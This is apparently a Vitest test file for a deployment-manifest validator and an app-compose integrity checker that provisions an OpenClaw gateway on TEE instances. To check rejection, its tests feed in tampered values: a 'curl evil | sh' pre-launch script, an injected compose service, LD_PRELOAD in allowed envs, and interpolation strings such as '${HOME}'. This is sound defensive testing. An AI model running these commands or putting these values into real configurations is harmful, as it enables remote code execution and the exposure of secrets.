// @vitest-environment node
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import {
  buildAppCompose,
  instanceTypeFor,
  ManifestError,
  parseManifest,
  validateManifest,
  type Manifest,
} from '../../../lib/providers/manifest';
import { checkAppCompose, AppComposeError } from '../../../lib/providers/phala';

const exampleText = readFileSync(new URL('../../../examples/openclaw-tee.json', import.meta.url), 'utf8');
const example = (): Record<string, any> => JSON.parse(exampleText);

/** The issues of a manifest that must be rejected. */
function issuesOf(raw: unknown): string[] {
  try {
    validateManifest(raw);
  } catch (err) {
    expect(err).toBeInstanceOf(ManifestError);
    expect((err as ManifestError).code).toBe('manifest_invalid');
    return [...(err as ManifestError).issues];
  }
  throw new Error('manifest was accepted');
}

const withChange = (change: (m: Record<string, any>) => void): Record<string, any> => {
  const m = example();
  change(m);
  return m;
};

describe('parseManifest', () => {
  it('accepts the example OpenClaw manifest and applies defaults', () => {
    const m = parseManifest(exampleText);
    expect(m.name).toBe('openclaw-gateway');
    expect(m.image).toBe('ghcr.io/openclaw/openclaw:latest');
    expect(m.env.map((e) => e.key)).toEqual(['ANTHROPIC_API_KEY', 'OPENCLAW_GATEWAY_TOKEN', 'OPENCLAW_MODEL']);
    expect(m.env.filter((e) => e.sensitive).map((e) => e.key)).toEqual(['ANTHROPIC_API_KEY', 'OPENCLAW_GATEWAY_TOKEN']);
    expect(m.resources).toEqual({ vcpu: 2, memoryMb: 4096, diskGb: 20 });
    expect(m.ports).toEqual([{ port: 18789, protocol: 'http', public: true }]);
    expect(m.healthcheck).toEqual({ path: '/healthz', port: 18789, intervalS: 30, timeoutS: 5 });
  });

  it('fills protocol, public, interval_s and timeout_s defaults', () => {
    const m = validateManifest(
      withChange((x) => {
        x.ports = [{ port: 8080 }];
        x.healthcheck = { path: '/', port: 8080 };
      }),
    );
    expect(m.ports).toEqual([{ port: 8080, protocol: 'http', public: true }]);
    expect(m.healthcheck).toEqual({ path: '/', port: 8080, intervalS: 30, timeoutS: 5 });
  });

  it('rejects text that is not JSON, without quoting it', () => {
    const secretish = '{"name": sk-ant-THIS-IS-NOT-JSON}';
    try {
      parseManifest(secretish);
      throw new Error('accepted');
    } catch (err) {
      expect(err).toBeInstanceOf(ManifestError);
      expect((err as Error).message).toMatch(/not valid JSON/);
      expect((err as Error).message).not.toContain('sk-ant');
    }
  });

  it('rejects oversized text and non-objects', () => {
    expect(() => parseManifest(' '.repeat(70_000))).toThrow(/larger than/);
    expect(issuesOf([])).toEqual(['manifest must be an object']);
    expect(issuesOf(null)).toEqual(['manifest must be an object']);
  });

  it('names an env key that does not match the dstack key grammar', () => {
    const issues = issuesOf(withChange((m) => (m.env[2].key = '1BAD')));
    expect(issues).toEqual(['env[2].key "1BAD" must match [A-Za-z_][A-Za-z0-9_]*']);
  });

  it('rejects duplicate env keys, naming both entries', () => {
    const issues = issuesOf(withChange((m) => (m.env[2].key = 'ANTHROPIC_API_KEY')));
    expect(issues).toEqual(['env[2].key "ANTHROPIC_API_KEY" duplicates env[0].key']);
  });

  it('refuses a default on a sensitive entry without echoing the value', () => {
    const issues = issuesOf(withChange((m) => (m.env[0].default = 'sk-ant-api03-realsecret')));
    expect(issues).toHaveLength(1);
    expect(issues[0]).toMatch(/^env\[0\]\.default is not allowed: ANTHROPIC_API_KEY is sensitive/);
    expect(issues.join(' ')).not.toContain('realsecret');
  });

  it('refuses defaults compose would interpolate, or with control characters', () => {
    expect(issuesOf(withChange((m) => (m.env[2].default = 'a${HOME}')))).toEqual([
      'env[2].default must not contain "$", "{" or "}" (compose would interpolate them)',
    ]);
    expect(issuesOf(withChange((m) => (m.env[2].default = 'a\nb')))).toEqual([
      'env[2].default must not contain control characters',
    ]);
    expect(issuesOf(withChange((m) => (m.env[2].default = 5)))).toEqual(['env[2].default must be a string']);
  });

  it('requires the env entry fields with their types', () => {
    const issues = issuesOf(withChange((m) => (m.env[1] = { key: 'X', required: 'yes' })));
    expect(issues).toEqual([
      'env[1].description must be a string',
      'env[1].required must be true or false',
      'env[1].sensitive must be true or false',
    ]);
  });

  it('rejects unknown fields (typos) at every level', () => {
    expect(issuesOf(withChange((m) => (m.enviroment = [])))[0]).toMatch(/^enviroment is not a known field/);
    expect(issuesOf(withChange((m) => (m.env[0].secret = true)))[0]).toMatch(/^env\[0\]\.secret is not a known field/);
    expect(issuesOf(withChange((m) => (m.resources.gpu = 1)))[0]).toMatch(/^resources\.gpu is not a known field/);
    // $schema is allowed for editor support.
    expect(validateManifest(withChange((m) => (m.$schema = 'https://example.invalid/s.json'))).name).toBe(
      'openclaw-gateway',
    );
  });

  it('bounds resources', () => {
    const issues = issuesOf(withChange((m) => (m.resources = { vcpu: 0, memory_mb: 1_000_000, disk_gb: 2.5 })));
    expect(issues).toEqual([
      'resources.vcpu 0 must be between 1 and 64',
      'resources.memory_mb 1000000 must be between 512 and 131072',
      'resources.disk_gb must be an integer',
    ]);
    expect(issuesOf(withChange((m) => delete m.resources))).toEqual(['resources is required']);
  });

  it('checks ports: range, protocol, uniqueness, count', () => {
    expect(
      issuesOf(withChange((m) => (m.ports = [{ port: 18789 }, { port: 70000 }, { port: 18789, protocol: 'udp' }]))),
    ).toEqual(['ports[1].port 70000 must be between 1 and 65535', 'ports[2].protocol "udp" must be "http" or "tcp"']);
    expect(issuesOf(withChange((m) => (m.ports = [{ port: 18789 }, { port: 18789, public: false }])))).toEqual([
      'ports[1].port 18789 duplicates ports[0].port',
    ]);
    expect(
      issuesOf(withChange((m) => (m.ports = Array.from({ length: 17 }, (_, i) => ({ port: 1000 + i }))))),
    ).toContain('ports has 17 entries; at most 16 are allowed');
  });

  it('checks the healthcheck: path form, a declared port, timeout within interval', () => {
    expect(issuesOf(withChange((m) => (m.healthcheck.path = 'healthz')))).toEqual([
      'healthcheck.path "healthz" must match an absolute URL path like /healthz',
    ]);
    expect(issuesOf(withChange((m) => (m.healthcheck.port = 9999)))).toEqual([
      'healthcheck.port 9999 is not one of ports[].port',
    ]);
    expect(
      issuesOf(withChange((m) => (m.healthcheck = { path: '/', port: 18789, interval_s: 5, timeout_s: 10 }))),
    ).toEqual(['healthcheck.timeout_s 10 must not exceed healthcheck.interval_s 5']);
  });

  it('checks name and image forms', () => {
    expect(issuesOf(withChange((m) => (m.name = 'OpenClaw')))).toEqual([
      'name "OpenClaw" must match [a-z][a-z0-9-]*[a-z0-9] (3–63 characters)',
    ]);
    expect(issuesOf(withChange((m) => (m.image = 'ghcr.io/OpenClaw/openclaw:latest')))[0]).toMatch(
      /^image ".*" must match a Docker image reference/,
    );
    expect(issuesOf(withChange((m) => (m.image = 'evil/${X}')))[0]).toMatch(/^image /);
    for (const image of ['nginx', 'nginx:1.27', 'localhost:5000/a/b_c:v1', `ghcr.io/o/n@sha256:${'a'.repeat(64)}`]) {
      expect(validateManifest(withChange((m) => (m.image = image))).image).toBe(image);
    }
  });

  it('reports every problem at once', () => {
    const issues = issuesOf(
      withChange((m) => {
        m.name = '';
        m.env[0].key = 'A-B';
        m.ports = 'x';
      }),
    );
    expect(issues).toEqual([
      'name must not be empty',
      'env[0].key "A-B" must match [A-Za-z_][A-Za-z0-9_]*',
      'ports must be a list',
    ]);
  });

  it('caps the env list', () => {
    const env = Array.from({ length: 65 }, (_, i) => ({
      key: `K${i}`,
      description: 'd',
      required: false,
      sensitive: false,
    }));
    expect(issuesOf(withChange((m) => (m.env = env)))).toEqual(['env has 65 entries; at most 64 are allowed']);
  });
});

describe('buildAppCompose', () => {
  const manifest = (): Manifest => parseManifest(exampleText);

  it('emits the compose YAML, allowed envs and provision request', () => {
    const built = buildAppCompose(manifest(), { name: 'my-openclaw' });
    expect(built.dockerComposeFile).toBe(
      [
        'services:',
        '  openclaw-gateway:',
        '    image: "ghcr.io/openclaw/openclaw:latest"',
        '    command: ["node", "openclaw.mjs", "gateway", "--allow-unconfigured", "--bind", "lan", "--port", "18789"]',
        '    environment:',
        '      ANTHROPIC_API_KEY: "${ANTHROPIC_API_KEY:?ANTHROPIC_API_KEY is required}"',
        '      OPENCLAW_GATEWAY_TOKEN: "${OPENCLAW_GATEWAY_TOKEN:?OPENCLAW_GATEWAY_TOKEN is required}"',
        '      OPENCLAW_MODEL: "${OPENCLAW_MODEL:-anthropic/claude-sonnet-4-5}"',
        '    ports:',
        '      - "18789:18789/tcp"',
        '    restart: "unless-stopped"',
        '',
      ].join('\n'),
    );
    expect(built.allowedEnvs).toEqual(['ANTHROPIC_API_KEY', 'OPENCLAW_GATEWAY_TOKEN', 'OPENCLAW_MODEL']);
    expect(built.provisionRequest).toEqual({
      name: 'my-openclaw',
      instanceType: 'tdx.medium',
      diskSizeGb: 20,
      composeFile: {
        name: 'my-openclaw',
        dockerComposeFile: built.dockerComposeFile,
        allowedEnvs: built.allowedEnvs,
        gatewayEnabled: true,
        kmsEnabled: true,
        publicLogs: false,
      },
      envKeys: built.allowedEnvs,
    });
  });

  it('is deterministic: same input, byte-identical output; a different manifest changes it', () => {
    const a = buildAppCompose(manifest(), { name: 'my-openclaw', kmsId: 'kms-1' });
    const b = buildAppCompose(parseManifest(JSON.stringify(JSON.parse(exampleText), null, 4)), {
      name: 'my-openclaw',
      kmsId: 'kms-1',
    });
    expect(JSON.stringify(b)).toBe(JSON.stringify(a));
    const c = buildAppCompose(validateManifest(withChange((m) => (m.env[2].default = 'anthropic/claude-opus-4-6'))), {
      name: 'my-openclaw',
      kmsId: 'kms-1',
    });
    expect(c.dockerComposeFile).not.toBe(a.dockerComposeFile);
  });

  it('escapes $ in commands, quotes YAML specials, keeps private ports internal, handles optional env', () => {
    const m = validateManifest(
      withChange((x) => {
        x.command = ['sh', '-c', 'echo $HOME "quoted" \\ # not a comment: yes'];
        x.env = [{ key: 'OPT', description: 'optional', required: false, sensitive: true }];
        x.ports = [{ port: 18789 }, { port: 9100, protocol: 'tcp', public: false }];
      }),
    );
    const yaml = buildAppCompose(m, { name: 'abcde' }).dockerComposeFile;
    expect(yaml).toContain('    command: ["sh", "-c", "echo $$HOME \\"quoted\\" \\\\ # not a comment: yes"]');
    expect(yaml).toContain('      OPT: "${OPT:-}"');
    expect(yaml).toContain('    ports:\n      - "18789:18789/tcp"\n    expose:\n      - "9100"\n');
  });

  it('omits environment when the manifest has no env', () => {
    const yaml = buildAppCompose(validateManifest(withChange((x) => (x.env = []))), {
      name: 'abcde',
    }).dockerComposeFile;
    expect(yaml).not.toContain('environment');
  });

  it('validates the CVM name', () => {
    for (const name of ['abc', 'Abcde', '1abcde', 'abcd-', 'a'.repeat(64), 'ab cd']) {
      expect(() => buildAppCompose(manifest(), { name })).toThrow(ManifestError);
    }
  });

  it('passes options through', () => {
    const built = buildAppCompose(manifest(), {
      name: 'abcde',
      kmsId: 'kms-1',
      instanceType: 'tdx.large',
      gatewayEnabled: false,
      publicLogs: true,
    });
    expect(built.provisionRequest.kmsId).toBe('kms-1');
    expect(built.provisionRequest.instanceType).toBe('tdx.large');
    expect(built.provisionRequest.composeFile.gatewayEnabled).toBe(false);
    expect(built.provisionRequest.composeFile.publicLogs).toBe(true);
  });
});

describe('instanceTypeFor', () => {
  it('picks the smallest type with enough vCPUs and memory', () => {
    expect(instanceTypeFor({ vcpu: 1, memoryMb: 512, diskGb: 10 })).toBe('tdx.small');
    expect(instanceTypeFor({ vcpu: 1, memoryMb: 2049, diskGb: 10 })).toBe('tdx.medium');
    expect(instanceTypeFor({ vcpu: 3, memoryMb: 1024, diskGb: 10 })).toBe('tdx.large');
    expect(instanceTypeFor({ vcpu: 64, memoryMb: 131_072, diskGb: 10 })).toBe('tdx.8xlarge');
    expect(() => instanceTypeFor({ vcpu: 65, memoryMb: 1024, diskGb: 10 })).toThrow(ManifestError);
  });
});

describe('checkAppCompose', () => {
  const built = buildAppCompose(parseManifest(exampleText), { name: 'my-openclaw' });
  const expected = {
    dockerComposeFile: built.dockerComposeFile,
    allowedEnvs: built.allowedEnvs,
    gatewayEnabled: true,
    publicLogs: false,
  };
  // dstack's AppCompose as a provider would serialize it.
  const doc = (): Record<string, unknown> => ({
    manifest_version: 2,
    name: 'my-openclaw',
    runner: 'docker-compose',
    docker_compose_file: built.dockerComposeFile,
    kms_enabled: true,
    gateway_enabled: true,
    public_logs: false,
    public_sysinfo: true,
    local_key_provider_enabled: false,
    allowed_envs: [...built.allowedEnvs].reverse(),
  });

  it('accepts the compose we asked for (allowed_envs in any order)', () => {
    expect(checkAppCompose(JSON.stringify(doc()), expected).name).toBe('my-openclaw');
  });

  it.each([
    [
      'docker_compose_file',
      (d: Record<string, unknown>) => (d.docker_compose_file = `${built.dockerComposeFile}  evil:\n    image: "x"\n`),
      /docker_compose_file/,
    ],
    [
      'wider allowed_envs',
      (d: Record<string, unknown>) => (d.allowed_envs = [...built.allowedEnvs, 'LD_PRELOAD']),
      /admits "LD_PRELOAD"/,
    ],
    [
      'narrower allowed_envs',
      (d: Record<string, unknown>) => (d.allowed_envs = built.allowedEnvs.slice(1)),
      /lacks "ANTHROPIC_API_KEY"/,
    ],
    [
      'duplicate allowed_envs',
      (d: Record<string, unknown>) => (d.allowed_envs = [...built.allowedEnvs, built.allowedEnvs[0]]),
      /twice/,
    ],
    ['kms disabled', (d: Record<string, unknown>) => (d.kms_enabled = false), /kms_enabled/],
    [
      'local key provider',
      (d: Record<string, unknown>) => (d.local_key_provider_enabled = true),
      /local_key_provider_enabled/,
    ],
    [
      'pre-launch script',
      (d: Record<string, unknown>) => (d.pre_launch_script = 'curl evil | sh'),
      /pre_launch_script/,
    ],
    ['public logs', (d: Record<string, unknown>) => (d.public_logs = true), /public_logs/],
    ['runner', (d: Record<string, unknown>) => (d.runner = 'bash'), /runner/],
  ])('rejects a changed %s', (_name, change, message) => {
    const d = doc();
    change(d);
    expect(() => checkAppCompose(JSON.stringify(d), expected)).toThrow(AppComposeError);
    expect(() => checkAppCompose(JSON.stringify(d), expected)).toThrow(message);
  });

  it('rejects text that is not a JSON object', () => {
    expect(() => checkAppCompose('not json', expected)).toThrow(AppComposeError);
    expect(() => checkAppCompose('[]', expected)).toThrow(AppComposeError);
  });
});
